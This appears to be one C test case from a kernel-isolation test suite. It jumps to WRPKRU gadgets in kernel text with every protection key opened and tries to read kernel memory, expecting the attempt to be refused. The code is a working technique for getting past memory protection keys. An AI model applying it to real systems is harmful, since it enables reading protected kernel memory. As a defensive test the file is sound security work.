/* A jump to each WRPKRU in the kernel's text with registers that open every key; if one comes back, it reads kernel memory. */
/* skip none: without a key there is nothing to open */
/* pkey: refused */
/* process: refused */
#include "attack.h"

static char stack[1 << 16] __attribute__((aligned(16)));

static int came_back(void)
{
	_exit(*(volatile uint64_t *)CONTROL ? 0 : 255);
}

static int jump(void *to)
{
	/* Every register that could be a return address or an area points into our own memory. */
	void **top = (void **)(stack + sizeof stack / 2);
	for (int i = -512; i < 512; i++)
		top[i] = came_back;
	asm volatile("mov %1, %%rsp; mov %0, %%r15; xor %%ecx, %%ecx; xor %%edx, %%edx; xor %%eax, %%eax;"
		     "mov %1, %%rbx; mov %1, %%rbp; mov %1, %%rsi; mov %1, %%rdi; mov %1, %%r8; lea came_back(%%rip), %%r11; jmp *%%r15"
		     :: "r"(to), "r"(top) : "memory");
	return REFUSED;
}

static int attack(void)
{
	for (int i = 0; place("ATTACK_WRPKRU", i); i++)
		if (try_apart(jump, (void *)place("ATTACK_WRPKRU", i)) == 0)
			return 0;
	return place("ATTACK_WRPKRU", 0) ? REFUSED : ENODATA;
}
